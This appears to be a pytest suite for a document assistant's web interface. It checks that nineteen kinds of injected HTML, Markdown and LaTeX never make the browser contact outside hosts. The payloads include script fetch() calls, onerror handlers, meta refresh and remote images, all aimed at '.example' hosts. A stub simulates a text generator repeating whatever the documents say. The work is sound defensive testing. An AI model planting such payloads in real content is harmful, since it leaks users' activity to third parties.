"""Hostile texts on the page: whatever a document says, the browser asks nobody for anything.

Two walls hold, each without the other: scrubbing, and the headers. Without both the browser does ask,
which shows that this test can see it.
"""

from collections.abc import Callable
from dataclasses import replace
from types import MappingProxyType

import pytest

from assistant.basis import Basis
from assistant.basis_rows import Row as BasisRow
from assistant.cite import DraftClaim
from assistant.compare import Comparison, Row
from assistant.earlier import Earlier
from assistant.similar import Match, Pair
from assistant.types import Citation, Claim, Finding, Outline, Similar, Trace
from assistant.web.guards import HEADERS
from assistant.web.scrub import scrub
from index.library import Library
from index.types import Block, Dated, Document, Meta, Place, Policy, Span, Value
from tests.browser import ask, audit, chromium, compare, draft, open_tab, press, reached, saved, served, visit

CHANNELS = {
    "image": "![图](http://image.example/a.png)",
    "reference": "![图][r]\n\n[r]: http://reference.example/a.png\n\n",
    "img": '<img src="http://img.example/a.png">',
    "srcset": '<img srcset="http://srcset.example/a.png 1x" sizes="1px">',
    "svg": '<svg width="9" height="9"><image href="http://svg.example/a.png" width="9" height="9"/></svg>',
    "iframe": '<iframe src="http://iframe.example/"></iframe>',
    "stylesheet": '<link rel="stylesheet" href="http://stylesheet.example/a.css">',
    "hint": '<link rel="preconnect" href="http://hint.example"><link rel="dns-prefetch" href="//hint.example">'
    '<link rel="prefetch" href="http://hint.example/a">',
    "import": "<style>@import url(http://import.example/a.css);</style>",
    "background": '<div style="background:url(http://background.example/a.png);width:9px;height:9px">图</div>',
    "script": '<script src="http://script.example/a.js"></script><script>fetch("http://script.example/b")</script>',
    "handler": '<img src="x" onerror="fetch(\'http://handler.example/\')">',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://refresh.example/">',
    "form": '<form action="http://form.example/"><input type="image" src="http://form.example/a.png"></form>',
    "object": '<object data="http://object.example/a.swf"></object><embed src="http://object.example/b.swf">',
    "media": '<video autoplay poster="http://media.example/a.png" src="http://media.example/a.mp4"></video>'
    '<audio autoplay src="http://media.example/a.mp3"></audio>'
    '<picture><source srcset="http://media.example/b.png"><img src="data:,"></picture>',
    "table": '<table background="http://table.example/a.png"><tr><td background="http://table.example/b.png">图</td></tr></table>',
    "base": '<base href="http://base.example/"><img src="a.png">',
    "formula": r"$$\includegraphics{http://formula.example/a.png}$$ $\href{http://formula.example/}{图}$",
}
WORDS = "甲市链长制试点共有12条产业链。"
DAY = Dated("2020-05-18", "2020-05-18", "day", "成文")
MINE = "我的孩子上学问题请解决。"
TITLE = "试点情况![](http://title.example/a.png)"


class Repeats:
    """A generator that the author of the documents has won over: it says what they say."""

    name = "repeats"
    prompt = ""

    def answer(self, query, selections, library):
        for document in hostile(library):
            for block in document.blocks:
                yield DraftClaim(document.at(block.span), (block.span,))


def hostile(library):
    return [library.document(listing.id) for listing in library.documents()]


@pytest.fixture(scope="module")
def library(tmp_path_factory):
    """One document a channel, with the channel in its words and metadata and an image in its title."""
    with Library.open(tmp_path_factory.mktemp("hostile"), create=True) as built:
        for number, (name, text) in enumerate(CHANNELS.items(), 1):
            whole = f"{WORDS}{text}{WORDS}"
            made = f"{number:016x}"
            block = Block(Span(made, 0, len(whole)), "paragraph")
            places = (Place(0, len(whole), 0, line=number),)
            meta = Meta(issuers=(Value(text),), region=Value(text), genre=Value(text))
            document = Document(made, TITLE, whole, f"{name}.txt", (block,), places, meta=meta)
            built.add_document(document, f"{name}.txt", name)
        yield built


def outline(library):
    """A draft with every channel in every one of its parts."""
    cited = [
        (text, Citation(d.blocks[0].span))
        for d, text in zip(hostile(library), CHANNELS.values(), strict=True)
    ]
    claims = tuple(Claim(text, (citation,), (), "supported") for text, citation in cited)
    return Outline(
        topic=TITLE,
        title=TITLE,
        profile="committee",
        reasons=(claims,),
        issues=claims,
        gaps=tuple(CHANNELS.values()),
        form=tuple(Finding("F1", "warning", text) for text in CHANNELS.values()),
        basis=tuple(Policy(text, citation.span, citation.span) for text, citation in cited),
        similar=tuple(Similar(text, citation.span, 1.0, ((text, citation),)) for text, citation in cited),
    )


def comparison(library):
    """A table with a channel in every row and cell."""
    claims = [claim for paragraph in outline(library).reasons for claim in paragraph]
    rows = tuple(Row(claim.text, (claim,)) for claim in claims)
    return Comparison(TITLE, (TITLE,), rows, Trace("extractive", library.digest))


def policies(library):
    """A 政策依据表 with a channel in every cell."""
    rows = tuple(
        BasisRow(
            replace(p, issuers=(p.title,), status=p.title, date=DAY),
            Citation(p.span),
            outline(library).form[:1],
        )
        for p in outline(library).basis
    )
    return Basis(TITLE, rows, tuple(CHANNELS.values()))


def matches(text, library):
    """An earlier lead for every channel, which says what the text says."""
    for one in outline(library).similar:
        held = Earlier(one.title, one.span, (one.span,), (one.span,))
        pair = Pair("照录", (0, len(text)), one.pairs[0][1])
        yield Match(held, 1.0, 1.0, 1.0, (one.title,), (pair,))


def look_at_everything(context, url):
    """Go through every tab, and open whatever shows the words of a document."""
    page = context.new_page()
    visit(page, url)
    look_at_answers(page)
    look_at_a_draft(page)
    look_at_checks(page)
    look_at_a_comparison(page)
    look_at_the_library(page)
    open_tab(page, "设置与自检")
    page.locator("#health li").first.wait_for()


def look_at_the_library(page):
    """The list, all that is known of a document whose channel has reached its metadata, and the pictures."""
    open_tab(page, "资料库")
    page.locator("#library-table [role=gridcell]").filter(has_text="试点情况").first.click()
    page.locator("#library-about").filter(has_text="已选").wait_for()
    for words in ("题名：", "发文机关：", "地区："):
        value = page.locator("#library-values label").filter(has_text=words).first
        value.click()
        page.locator("#library-source").filter(has_text=words).wait_for()
    page.locator("#remove").click()
    page.locator("#library-about").filter(has_text="确定移除吗").wait_for()
    open_tab(page, "概览")
    page.locator("#timeline-matter textarea, #timeline-matter input").first.fill("链长制")
    page.locator("button#timeline-look").click()
    page.locator("#timeline circle").nth(len(CHANNELS) - 1).wait_for()
    open_tab(page, "同步文件夹")
    page.locator("#sync-folder textarea, #sync-folder input").first.fill("".join(CHANNELS.values()))
    page.locator("button#sync-look").click()
    page.locator("#sync-told").filter(has_text="完整路径").wait_for()


def look_at_answers(page):
    """The suggestions, what there is to choose from, an answer with every source, and the file of it."""
    page.locator("#chat .example").first.wait_for()
    page.locator("#only button").first.click()
    for name in ("documents", "issuer", "genre", "status"):
        page.locator(f"#only-{name} input").click()
        page.get_by_role("option").last.wait_for()
        page.keyboard.press("Escape")
    page.locator("#only-documents input").click()
    page.get_by_role("option").first.click()
    page.keyboard.press("Escape")
    page.locator("#only").filter(has_text="已限 1 项").wait_for()
    ask(page, "甲市链长制试点有多少条产业链？")
    page.locator("#only-documents .remove-all").click()
    page.locator("#only").filter(has_not_text="已限").wait_for()
    ask(page, f"甲市链长制试点有多少条产业链？{''.join(CHANNELS.values())}"[:900])
    for number in range(len(CHANNELS), 0, -1):
        # The first is open already, and another is chosen by its whole line, wherever the list has moved.
        page.locator("#ask-sources label").nth(number - 1).click()
        page.locator("#ask-source").filter(has_text=f"位置：第{number}行").wait_for()
    saved(page, "#ask-download-2")
    page.locator("#talks button").first.click()
    page.locator("#talks-list label").filter(has_text="甲市链长制试点").first.wait_for()


def look_at_a_draft(page):
    draft(page, "链长制")
    page.locator("#draft-sources label").nth(len(CHANNELS) - 1).wait_for()
    page.get_by_role("button", name="复制全文").click()
    page.locator("#draft-copy textarea").wait_for()
    saved(page, "#draft-download-2")
    page.locator("#draft-basis button").first.click()
    page.locator("#draft-basis-table [role=gridcell]").first.click()
    page.locator("#draft-source h4").first.wait_for()


def look_at_checks(page):
    """数据核对, 查重 and 立案预审 of a text with every channel in it, and the file of the table."""
    open_tab(page, "核对")
    audit(page, "\n".join([TITLE, WORDS, *CHANNELS.values(), MINE]))
    press(
        page,
        page.locator("#audit-table [role=gridcell]").filter(has_text="12条产业链").first,
        "#audit-source",
    )
    saved(page, "#audit-download-4")
    open_tab(page, "查重")
    page.locator("button#similar").click()
    press(page, page.locator("#similar-table [role=gridcell]").first, "#similar-source")
    open_tab(page, "立案预审")
    page.locator("button#review").click()
    page.locator("#review-body .highlighted .text").first.click()
    page.locator("#review-hints mark").first.wait_for()


def look_at_a_comparison(page):
    open_tab(page, "对照")
    compare(page, "链长制")
    press(page, page.locator("#compare-table [role=gridcell][aria-colindex='2']").first, "#compare-source")


@pytest.fixture
def leaked(library, tmp_path, monkeypatch) -> Callable[..., set[str]]:
    """The hosts that were asked for anything while a page with these walls was looked at."""

    def look(**walls):
        from assistant.web import basis_fold, compare_tab, drafted, overview, similar_view
        from assistant.web.suggestions import Suggestions

        monkeypatch.setattr(Suggestions, "questions", lambda _: tuple(CHANNELS.values()))
        monkeypatch.setattr(basis_fold, "basis", lambda *_: policies(library))
        monkeypatch.setattr(overview, "basis", lambda *_: policies(library))
        monkeypatch.setattr(compare_tab, "compare_stream", lambda *_: iter([comparison(library)]))
        monkeypatch.setattr(similar_view, "matches", lambda text, *_: [*matches(text, library)])
        monkeypatch.setattr(drafted, "draft_stream", lambda *_, **__: iter([outline(library)]))
        with served(library, Repeats(), **walls) as url, chromium(tmp_path) as context:
            look_at_everything(context, url)
        return reached(tmp_path)

    return look


def test_nothing_leaks_by_scrubbing_alone(leaked):
    assert leaked(scrub=scrub, headers=MappingProxyType({})) == set()


def test_nothing_leaks_by_the_headers_alone(leaked):
    assert leaked(scrub=str, headers=HEADERS) == set()


def test_without_both_walls_texts_do_reach_other_hosts(leaked):
    found = leaked(scrub=str, headers=MappingProxyType({}))
    assert len(found) >= 5
    assert found <= {f"{name}.example" for name in (*CHANNELS, "title")}


def test_there_are_nineteen_channels():
    assert len(CHANNELS) == 19
    assert all(f"{name}.example" in text for name, text in CHANNELS.items())
